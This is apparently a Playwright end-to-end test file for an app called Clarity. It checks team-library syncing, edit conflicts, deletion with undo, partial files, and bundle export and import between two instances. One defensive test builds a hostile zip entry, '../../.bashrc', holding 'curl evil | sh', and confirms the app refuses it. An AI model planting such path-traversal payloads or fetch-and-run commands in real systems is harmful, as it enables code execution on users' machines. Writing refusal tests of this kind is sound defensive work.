/**
 * A team library shared by two app instances (two browser hosts, two data directories, one
 * team folder), as two analysts would use it: an answer saved by one appears in the other's
 * Library view; concurrent edits become a conflict that is shown and resolved; a deletion
 * propagates and its undo too; a half-synced file is ignored until complete.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { ChatPage, expect, startApp, stopApp, test, type RunningApp } from './fixtures';

class LibraryPage {
  constructor(readonly page: Page) {}

  async open(): Promise<void> {
    await this.page.getByTestId('nav-library').click();
    await expect(this.page.getByTestId('library-locations')).toBeVisible();
  }

  async addTeamLibrary(path: string, name: string): Promise<void> {
    await this.page.getByTestId('location-add-open').click();
    await this.page.getByTestId('location-path').fill(path);
    await this.page.getByTestId('location-name').fill(name);
    await this.page.getByTestId('location-add').click();
    await expect(this.page.getByTestId('location-status')).toHaveText(`Added “${name}”.`);
  }

  item(title: string | RegExp) {
    return this.page.getByTestId('library-item').filter({ hasText: title });
  }

  async openItem(title: string | RegExp): Promise<void> {
    await this.item(title).getByRole('button').first().click();
    await expect(this.page.getByTestId('library-reader')).toBeVisible();
  }

  reader() {
    return this.page.getByTestId('library-reader');
  }
}

test('two instances share a team library: saves, conflicts, deletions and partial files', async ({ browser }, testInfo) => {
  const root = await mkdtemp(join(tmpdir(), 'clarity-team-e2e-'));
  const team = join(root, 'Shared drive', 'Retail team');
  await mkdir(team, { recursive: true });
  const apps: RunningApp[] = [];
  try {
    apps.push(await startApp(), await startApp());
    const [pageA, pageB] = await Promise.all([browser.newContext({ viewport: { width: 1280, height: 860 } }).then((c) => c.newPage()), browser.newContext({ viewport: { width: 1280, height: 860 } }).then((c) => c.newPage())]);
    const [chatA, chatB] = [new ChatPage(pageA), new ChatPage(pageB)];
    await chatA.open(apps[0]!);
    await chatB.open(apps[1]!);
    const [libA, libB] = [new LibraryPage(pageA), new LibraryPage(pageB)];
    await libA.open();
    await libA.addTeamLibrary(team, 'Retail team');
    await libB.open();
    await libB.addTeamLibrary(team, 'Retail team');

    // Ann asks and saves the answer to the team library: saving asks where.
    await pageA.getByTestId('nav-chat').click();
    await chatA.ask('Zudio store openings');
    await expect(chatA.lastAnswer()).toHaveAttribute('data-status', 'done');
    await chatA.lastAnswer().getByTestId('save-answer').click();
    await expect(pageA.getByTestId('save-target-personal')).toBeFocused();
    await pageA.getByRole('menuitem', { name: 'Retail team' }).click();
    await expect(chatA.lastAnswer().getByRole('status')).toHaveText('Saved to “Retail team”');

    // Ravi sees it in his Library view, marked as living in the team library.
    const saved = libB.item('Zudio store openings');
    await expect(saved).toHaveCount(1, { timeout: 10_000 });
    await expect(saved.getByTestId('library-item-location')).toHaveText('Retail team');
    await libB.openItem('Zudio store openings');
    await expect(libB.reader().getByTestId('library-where')).toContainText('in Retail team');
    await expect(libB.reader().getByTestId('citation-chip').first()).toBeVisible();

    // Both edit the title of the same revision; Ann saves first, then Ravi.
    await libA.open();
    await libA.openItem('Zudio store openings');
    await libB.reader().getByTestId('library-title').fill('Zudio — Ravi’s notes');
    await libA.reader().getByTestId('library-title').fill('Zudio — Ann’s notes');
    await libA.reader().getByTestId('library-save-meta').click();
    await expect(libA.reader().getByTestId('library-reader-status')).toHaveText('Saved.');
    // Ravi's view follows Ann's save without losing what he typed.
    await expect(libB.item('Zudio — Ann’s notes')).toHaveCount(1);
    await expect(libB.reader().getByTestId('library-title')).toHaveValue('Zudio — Ravi’s notes');
    await libB.reader().getByTestId('library-save-meta').click();
    await expect(libB.reader().getByTestId('library-reader-status')).toContainText('both versions are kept');

    // The conflict is shown in both instances, each version in words.
    for (const lib of [libB, libA]) {
      await expect(lib.item('Zudio — Ann’s notes').getByTestId('library-item-conflict')).toBeVisible();
      const conflict = lib.reader().getByTestId('library-conflict');
      await expect(conflict.getByTestId('conflict-current')).toContainText('Zudio — Ann’s notes');
      await expect(conflict.getByTestId('conflict-other')).toContainText('Zudio — Ravi’s notes');
    }
    await pageA.screenshot({ path: testInfo.outputPath('team-library-conflict.png') });

    // Ann keeps Ravi's version: both instances converge, the conflict is gone.
    await libA.reader().getByTestId('conflict-keep-other').click();
    for (const lib of [libA, libB]) {
      await expect(lib.item('Zudio — Ravi’s notes')).toHaveCount(1);
      await expect(lib.reader().getByTestId('library-conflict')).toHaveCount(0);
      await expect(lib.page.getByTestId('library-item-conflict')).toHaveCount(0);
    }

    // A deletion propagates, and so does its undo.
    await libA.reader().getByTestId('library-delete').click();
    await expect(libA.item('Zudio — Ravi’s notes')).toHaveCount(0);
    await expect(libB.item('Zudio — Ravi’s notes')).toHaveCount(0);
    await pageA.getByTestId('library-undo-delete').click();
    await expect(libA.item('Zudio — Ravi’s notes')).toHaveCount(1);
    await expect(libB.item('Zudio — Ravi’s notes')).toHaveCount(1);

    // A file the sync client is still writing is ignored until it parses.
    const id = (await libB.item('Zudio — Ravi’s notes').getAttribute('data-id'))!;
    const whole = JSON.parse(await readFile(join(team, `${id}.json`), 'utf8')) as { id: string; title: string; revision?: unknown };
    const arriving = JSON.stringify({ ...whole, id: 'lib_00000000000000e2', title: 'Arrived from a colleague', revision: undefined });
    await writeFile(join(team, 'lib_00000000000000e2.json'), arriving.slice(0, arriving.length / 2));
    await expect(pageB.getByTestId('library-corrupt')).toContainText('lib_00000000000000e2.json');
    await expect(libB.item('Arrived from a colleague')).toHaveCount(0);
    await writeFile(join(team, 'lib_00000000000000e2.json'), arriving);
    await expect(libB.item('Arrived from a colleague')).toHaveCount(1);
    await expect(pageB.getByTestId('library-corrupt')).toHaveCount(0);
    await pageB.screenshot({ path: testInfo.outputPath('team-library-b.png') });
  } finally {
    await Promise.all(apps.map((app) => stopApp(app)));
    await rm(root, { recursive: true, force: true });
  }
});

test('a .clarity bundle goes from one instance to another with its citations; a hostile one is refused', async ({ browser }, testInfo) => {
  const apps: RunningApp[] = [];
  try {
    apps.push(await startApp(), await startApp());
    const [pageA, pageB] = await Promise.all([browser.newContext({ acceptDownloads: true }).then((c) => c.newPage()), browser.newContext().then((c) => c.newPage())]);
    const [chatA, chatB] = [new ChatPage(pageA), new ChatPage(pageB)];
    await chatA.open(apps[0]!);
    await chatB.open(apps[1]!);
    await chatA.ask('Tanishq jewellery in Kerala');
    await expect(chatA.lastAnswer()).toHaveAttribute('data-status', 'done');
    const chipCount = await chatA.lastAnswer().getByTestId('citation-chip').count();
    await chatA.lastAnswer().getByTestId('save-answer').click();
    await expect(chatA.lastAnswer().getByRole('status')).toHaveText('Saved to the library');

    const libA = new LibraryPage(pageA);
    await libA.open();
    await libA.openItem('Tanishq jewellery in Kerala');
    const downloading = pageA.waitForEvent('download');
    await libA.reader().getByTestId('library-export-bundle').click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe('tanishq-jewellery-in-kerala.clarity');
    const bundlePath = testInfo.outputPath('answer.clarity');
    await download.saveAs(bundlePath);

    // Ravi imports it: the app says what would happen before writing anything.
    const libB = new LibraryPage(pageB);
    await libB.open();
    await pageB.getByTestId('bundle-file').setInputFiles(bundlePath);
    await expect(pageB.getByTestId('bundle-plan-item')).toHaveAttribute('data-status', 'new');
    await expect(libB.item('Tanishq jewellery in Kerala')).toHaveCount(0);
    await pageB.getByTestId('bundle-apply').click();
    await expect(pageB.getByTestId('bundle-message')).toHaveText('Imported: 1 new, 0 replaced, 0 kept as conflict copies, 0 left as they were.');
    await libB.openItem('Tanishq jewellery in Kerala');
    await expect(libB.reader().getByTestId('citation-chip')).toHaveCount(chipCount);
    await libB.reader().getByTestId('citation-chip').first().click();
    await expect(pageB.getByTestId('citation-panel').getByTestId('panel-source')).not.toBeEmpty();
    await expect(pageB.getByTestId('citation-panel').getByTestId('health-when cited')).toHaveText('when cited: not measured (sample)');

    // The same bundle again: identical, nothing to do.
    await pageB.getByTestId('bundle-file').setInputFiles(bundlePath);
    await expect(pageB.getByTestId('bundle-plan-item')).toHaveAttribute('data-status', 'same');
    await pageB.getByRole('button', { name: 'Cancel' }).click();

    // A hostile bundle (a path climbing out of the folder) is refused, with why, and writes nothing.
    const { readFile } = await import('node:fs/promises');
    const files = unzipSync(new Uint8Array(await readFile(bundlePath)));
    const hostile = Buffer.from(zipSync({ ...files, '../../.bashrc': strToU8('curl evil | sh') }));
    await pageB.getByTestId('bundle-file').setInputFiles({ name: 'hostile.clarity', mimeType: 'application/zip', buffer: hostile });
    await expect(pageB.getByTestId('bundle-message')).toHaveText('This bundle was refused and nothing was written: The bundle contains a file it should not: “../../.bashrc”.');
    await expect(pageB.getByTestId('bundle-plan')).toHaveCount(0);
    await expect(pageB.getByTestId('library-item')).toHaveCount(1);
    await pageB.screenshot({ path: testInfo.outputPath('bundle-refused.png') });
  } finally {
    await Promise.all(apps.map((app) => stopApp(app)));
  }
});
